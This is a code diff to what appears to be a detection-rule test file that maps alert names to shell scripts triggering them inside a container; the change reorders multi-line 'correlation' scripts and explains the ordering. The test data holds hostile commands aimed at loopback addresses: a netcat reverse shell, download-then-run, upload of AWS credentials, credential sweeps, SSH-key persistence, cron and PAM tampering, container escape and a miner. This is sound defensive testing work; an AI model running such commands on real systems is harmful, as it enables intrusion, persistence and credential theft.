@@ -40,12 +40,7 @@ IN_A_CONTAINER = {
     "package_manager_in_container": "/usr/bin/apt-get install -y netcat",
     "compiler_in_container": "/usr/bin/gcc -o x x.c",
     "container_client_in_container": "/usr/bin/kubectl get pods",
-    "reverse_shell_by_network_tool": "/bin/nc 127.0.0.1 1 -e /bin/sh",
-    "download_then_run": """
-        /usr/bin/wget -O /tmp/fetched http://127.0.0.1:1/x
-        /bin/cp /bin/busybox /tmp/dropped
-        /tmp/dropped true
-    """,
+    "reverse_shell_by_network_tool": "/usr/bin/nc 127.0.0.1 1 -e /bin/sh",
     "download_to_temporary_folder": "/usr/bin/wget -O /var/tmp/x http://127.0.0.1:1/x",
     "cron_file_written": "/bin/mkdir -p /var/spool/cron/crontabs; echo > /var/spool/cron/crontabs/app",
     "systemd_unit_written": "/bin/mkdir -p /etc/systemd/system; echo > /etc/systemd/system/x.service",
@@ -57,10 +52,6 @@ IN_A_CONTAINER = {
     "pam_configuration_written": "/bin/mkdir -p /etc/pam.d; echo > /etc/pam.d/sshd",
     "package_manager_hook_written": "/bin/mkdir -p /etc/apt/apt.conf.d; echo > /etc/apt/apt.conf.d/99x",
     "module_autoload_written": "/bin/mkdir -p /etc/modules-load.d; echo > /etc/modules-load.d/x.conf",
-    "persistence_after_server_shell": """
-        /bin/mkdir -p /root/.ssh
-        /usr/sbin/nginx /bin/sh -c 'echo > /root/.ssh/authorized_keys'
-    """,
     "startup_file_written": "/bin/mkdir -p /etc/profile.d; echo > /etc/profile.d/x.sh",
     "container_escape_file_written": "/bin/mkdir -p /tmp/cgroup; echo > /tmp/cgroup/release_agent",
     "host_disk_mounted_in_container": "/bin/mount /dev/sda1 /mnt",
@@ -96,23 +87,8 @@ IN_A_CONTAINER = {
         echo > $folder/logins.json
         /bin/cat $folder/logins.json
     """,
-    "credential_sweep": """
-        /bin/mkdir -p /root/.kube /root/.ssh
-        for file in /root/.kube/config /root/.netrc /root/.ssh/id_ecdsa; do
-            echo > $file
-            /bin/cat $file
-        done
-    """,
     "cloud_metadata_requested": "/usr/bin/curl --connect-to ::127.0.0.1:1 http://169.254.169.254/latest/meta-data/",
     "password_guessing_tool_run": "/usr/bin/hydra -l root ssh://127.0.0.1",
-    "discovery_burst": """
-        /usr/bin/whoami
-        /bin/ps
-        /bin/netstat -a
-        /sbin/route
-        /sbin/ifconfig
-        /bin/dmesg
-    """,
     "port_scanner_run": "/usr/bin/nmap 127.0.0.1",
     "setuid_files_searched": "/usr/bin/find /opt -perm -4000",
     "tunnelling_tool_run": "/usr/bin/chisel client 127.0.0.1:1 R:socks",
@@ -121,8 +97,35 @@ IN_A_CONTAINER = {
     "file_uploaded_by_command_line": "/usr/bin/curl -T ./file http://192.0.2.1:1/",
     "sensitive_file_uploaded": "/usr/bin/curl -T /root/.aws/credentials http://127.0.0.1:1/",
     "cryptocurrency_miner_run": "/usr/bin/xmrig -o stratum+tcp://127.0.0.1:1",
+    "download_then_run": """
+        /usr/bin/wget -O /tmp/fetched http://127.0.0.1:1/x
+        /bin/cp /bin/busybox /tmp/dropped
+        /tmp/dropped true
+    """,
+    "persistence_after_server_shell": """
+        /bin/mkdir -p /root/.ssh
+        /usr/sbin/nginx /bin/sh -c 'echo > /root/.ssh/authorized_keys'
+    """,
+    "credential_sweep": """
+        /bin/mkdir -p /root/.kube /root/.ssh
+        for file in /root/.kube/config /root/.netrc /root/.ssh/id_ecdsa; do
+            echo > $file
+            /bin/cat $file
+        done
+    """,
+    "discovery_burst": """
+        /usr/bin/whoami
+        /bin/ps
+        /bin/netstat -a
+        /sbin/route
+        /sbin/ifconfig
+        /bin/dmesg
+    """,
 }
-"""Rule to script for busybox's shell, as root in a container with docker's default capabilities."""
+"""Rule to script for busybox's shell, as root in a container with docker's default capabilities.
+
+In this order: correlations come last, because an alert of a rule that they build on holds back an equal one for a time.
+"""
 
 ON_THE_HOST = {
     "inline_script_decodes_code": """/usr/bin/python3 -c 'import base64; exec(base64.b64decode("cGFzcw=="))'""",
